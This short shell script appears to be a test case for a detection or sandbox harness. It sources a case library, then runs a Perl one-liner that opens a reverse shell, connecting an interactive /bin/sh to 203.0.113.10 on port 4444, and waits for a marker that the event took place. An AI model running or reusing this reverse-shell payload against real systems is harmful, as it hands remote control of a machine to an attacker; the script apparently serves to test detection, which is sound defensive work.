#!/bin/sh
. /opt/case/case.sh

perl -e '
use Socket;
socket(S, PF_INET, SOCK_STREAM, getprotobyname("tcp"));
connect(S, sockaddr_in(4444, inet_aton("203.0.113.10"))) or die;
open(STDIN, ">&S"); open(STDOUT, ">&S"); open(STDERR, ">&S");
exec("/bin/sh -i");' &
wait_for /tmp/reached
took_place
